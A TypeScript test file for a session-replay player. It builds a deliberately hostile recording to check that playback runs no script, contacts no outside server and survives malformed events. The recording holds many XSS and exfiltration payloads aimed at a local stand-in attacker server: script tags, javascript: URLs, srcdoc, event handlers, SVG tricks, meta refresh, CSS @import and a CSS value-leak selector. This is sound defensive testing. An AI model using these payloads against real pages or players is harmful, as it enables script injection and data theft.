import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launchChromium } from "../chromium.ts";
import { element, event, incremental, keyframe, retext, text, type Recorded } from "./recordings.ts";
import { startAdmin, type AdminServer } from "./serve.ts";

/*
 * A recording made to attack whoever plays it. Every way we know to run a script or reach another server is in it; the address
 * of a server that counts stands for the attacker's. What must be true: no script ran, nobody was contacted, the rest plays.
 */

const RUN = "top.hit=1;parent.hit=1;window.hit=1";

function attack(evil: string): Recorded {
  let id = 100;
  const make = (tag: string, attributes: object = {}, children: object[] = []): object =>
    element(++id, tag, attributes, children);
  const words = (content: string): object => text(++id, content);
  const script = () => [
    make("SCRIPT", {}, [words(RUN)]),
    make("script", { src: `${evil}/script.js` }),
    make("svg:script", {}, [words(RUN)]),
  ];
  const svg = (tag: string, attributes: object, children: object[] = []) => ({
    ...make(tag, attributes, children),
    isSVG: true,
  });
  const body = [
    make("p", { id: "marker" }, [text(99, "before")]),
    ...script(),
    make("noscript", {}, [words(`<img src=${evil}/noscript>`)]),
    make("iframe", { src: `javascript:${RUN}` }),
    make("IFRAME", { srcdoc: `<script>${RUN}</script><img src=${evil}/srcdoc>` }),
    make("iframe", { src: `${evil}/frame` }),
    make("frame", { src: `${evil}/frame2` }),
    make("object", { data: `${evil}/object` }),
    make("embed", { src: `${evil}/embed` }),
    make("img", { src: `${evil}/img`, srcset: `${evil}/srcset 2x`, onerror: RUN }),
    make("img", { src: "x", ONERROR: RUN, rr_dataURL: `${evil}/dataurl` }),
    make("canvas", { rr_dataURL: `${evil}/canvas` }),
    make("video", { src: `${evil}/video`, poster: `${evil}/poster`, autoplay: true, rr_mediaState: "played" }),
    make("audio", { src: `${evil}/audio`, autoplay: true }),
    make("input", { type: "image", src: `${evil}/input`, autofocus: true, onfocus: RUN }),
    make("details", { open: true, ontoggle: RUN }),
    make("form", { action: `${evil}/form`, name: "documentElement" }, [
      make("button", { formaction: `${evil}/formaction` }),
    ]),
    make("a", { href: `${evil}/a`, ping: `${evil}/ping`, target: "_top", id: "link" }, [words("click me")]),
    make("div", { style: `background:url(${evil}/inline);cursor:url(${evil}/cursor),auto;width:10px;height:10px` }),
    make("base", { href: `${evil}/base/` }),
    make("meta", { "HTTP-EQUIV": "refresh", content: `0;url=${evil}/refresh` }),
    ...["preconnect", "dns-prefetch", "preload", "prefetch", "modulepreload", "icon", "manifest", "stylesheet"].map(
      (rel) => make("LINK", { rel, href: `${evil}/link-${rel}`, as: "image" }),
    ),
    make("link", { rel: "stylesheet", href: `${evil}/kept-link` }),
    svg("svg", { onload: RUN }, [
      svg("image", { "xlink:href": `${evil}/svg-image`, href: `${evil}/svg-image2` }),
      svg("use", { href: `${evil}/use#a` }),
      svg("script", {}, [words(RUN)]),
      svg("set", { attributeName: "onmouseover", to: RUN }),
      svg("a", { "xlink:href": `javascript:${RUN}` }, [
        svg("animate", { attributeName: "href", values: `javascript:${RUN}` }),
      ]),
    ]),
    make("style", { _cssText: `@import url(${evil}/import2);` }, []),
    make("x-custom", {}, []),
  ];
  const css = `@import url(${evil}/import);@\\69mport "${evil}/import3";@font-face{font-family:f;src:url(${evil}/font)}p{font-family:f}
    input[value^="a"]{background:url(${evil}/leak)}`;
  const linkId = id;
  const change = (at: number, changed: number, attributes: object) =>
    incremental(at, { source: 0, adds: [], removes: [], texts: [], attributes: [{ id: changed, attributes }] });
  return {
    page: [
      ...keyframe(0, css, body),
      incremental(500, {
        source: 0,
        adds: script().map((node) => ({ parentId: 6, nextId: null, node })),
        removes: [],
        texts: [],
        attributes: [],
      }),
      ...Array.from({ length: linkId - 100 }, (_, index) =>
        change(600, 101 + index, {
          src: `${evil}/changed`,
          href: `${evil}/changed`,
          rel: "preconnect",
          srcdoc: `<script>${RUN}</script>`,
          onclick: RUN,
        }),
      ),
      incremental(700, {
        source: 8,
        id: 5,
        adds: [{ rule: `@import url(${evil}/rule);`, index: 0 }, { rule: `p{background:url(${evil}/rule2)}` }],
      }),
      incremental(710, {
        source: 15,
        id: 1,
        styleIds: [7],
        styles: [{ styleId: 7, rules: [{ rule: `p{background:url(${evil}/adopted)}` }] }],
      }),
      incremental(720, { source: 10, family: "g", fontSource: `url(${evil}/fontface)`, buffer: false }),
      // Malformed in ways that crash players: each is a promise broken about what an event holds.
      incremental(730, { source: 15, id: 1 }),
      incremental(731, { source: 1, positions: [] }),
      incremental(732, { source: 0 }),
      incremental(733, { source: 2, type: 99, id: {} }),
      incremental(734, { source: 14, ranges: [null] }),
      incremental(735, { source: 9, id: 1, property: "drawImage", args: [{}] }),
      event(736, 2, { node: null }),
      incremental(740, { source: 2, type: 2, id: 101, x: 5, y: 5 }),
      retext(900, 99, "after"),
    ],
  };
}

let browser: Browser;
let admin: AdminServer;
let attacker: Server;
const contacts: string[] = [];

beforeAll(async () => {
  attacker = createServer((request, response) => {
    contacts.push(String(request.url));
    response.writeHead(200, { "access-control-allow-origin": "*" }).end();
  });
  attacker.on("connection", () => contacts.push("a connection"));
  await new Promise<void>((resolve) => {
    attacker.listen(0, "127.0.0.1", resolve);
  });
  const evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  admin = await startAdmin({ hostile: attack(evil) });
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await admin?.stop();
  attacker?.close();
});

test.each(["?t=950&paused=1", ""])(
  "a hostile recording runs nothing, reaches nobody, and plays (%s)",
  async (search) => {
    const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    const errors: string[] = [];
    page.on("pageerror", (error) => errors.push(String(error)));
    await page.goto(`${admin.origin}/sessions/hostile${search}`);
    await page.waitForSelector("iframe[data-replay][data-state=settled]", { state: "attached" });
    const seen = await page.evaluate(() => {
      const frame = document.querySelector<HTMLIFrameElement>("iframe[data-replay]")!;
      const inside = frame.contentDocument!;
      const hit = (view: Window) => (view as { hit?: number }).hit;
      return {
        sandbox: frame.getAttribute("sandbox"),
        hits: [
          hit(window),
          hit(frame.contentWindow!),
          ...[...inside.querySelectorAll("iframe")].map((each) => each.contentWindow && hit(each.contentWindow)),
        ],
        text: inside.querySelector("#marker")?.textContent,
        left: [
          ...inside.querySelectorAll(
            "script, base, object, embed, frame, [srcdoc], [ping], [onclick], [onload], [onerror], link[rel][href], iframe[src]",
          ),
        ].length,
        address: location.pathname,
      };
    });
    expect(seen).toMatchObject({ sandbox: "allow-same-origin", text: "after", left: 0, address: "/sessions/hostile" });
    expect(seen.hits.every((hit) => hit === undefined || hit === null)).toBe(true);
    expect(errors).toEqual([]);
    expect(contacts).toEqual([]);
    await page.close();
  },
);
